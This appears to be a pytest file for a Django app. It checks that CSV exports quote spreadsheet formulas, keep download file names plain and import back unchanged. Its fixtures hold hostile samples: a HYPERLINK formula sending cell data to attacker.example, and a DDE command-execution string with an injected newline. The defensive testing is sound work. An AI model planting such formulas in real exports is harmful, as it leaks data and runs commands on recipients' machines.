"""The labelled export opens safely in a spreadsheet: no text cell runs as a formula, and a campaign name
with a newline or quotes still downloads under a plain file name; the CSV still imports back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from hcvvet.reports.exports.safety import formula_quoted, formula_unquoted
from hcvvet.vetting.models import Campaign, Label
from tests.conftest import token_client

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
CAMPAIGN = 'Pilot\r\n=cmd|"/C calc"!A0'


@pytest.fixture
def clients(users):
    return {"curator": token_client(users["curator"])}


@pytest.fixture
def hostile(world):
    Label.objects.filter(pk=world.ada_label.pk).update(comment=FORMULA)
    Campaign.objects.filter(pk=world.blind.pk).update(name=CAMPAIGN)
    return world


def data_rows(content: bytes) -> list[list[str]]:
    lines = [line for line in content.decode().splitlines() if not line.startswith("#")]
    return list(csv.reader(io.StringIO("\n".join(lines))))


@pytest.mark.parametrize("via", ["api", "page"])
def test_the_csv_export_quotes_formulas_and_names_the_file_plainly(clients, client, users, hostile, via):
    params = {"source": "labels", "campaign": CAMPAIGN}
    if via == "api":
        response = clients["curator"].get("/api/reports/labelled-candidates/", {"fmt": "csv", **params})
    else:
        client.force_login(users["curator"])
        response = client.get("/reports/labelled-candidates.csv", params)
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "\n" not in disposition
    assert "\r" not in disposition
    assert disposition.endswith('.csv"')
    assert disposition.count('"') == 2
    cells = [cell for row in data_rows(response.content) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
    assert not any(line.startswith("=") for line in response.content.decode().splitlines())


def test_the_quoted_csv_imports_back_as_a_round_trip(clients, hostile):
    client = clients["curator"]
    exported = client.get(
        "/api/reports/labelled-candidates/", {"fmt": "csv", "source": "labels", "campaign": CAMPAIGN}
    )
    summary = client.post(
        "/api/reports/labelled-candidates/import/",
        {"file": SimpleUploadedFile("labels.csv", exported.content), "campaign": CAMPAIGN, "dry_run": "true"},
        format="multipart",
    ).json()
    assert (summary["is_round_trip"], summary["n_written"]) == (True, 0)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\r=x", "'=x", "''+x", "'", "plain", "", "it's", "a=b"]
)
def test_quoting_is_undone_exactly(text):
    quoted = formula_quoted(text)
    assert not quoted.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert formula_unquoted(quoted) == text
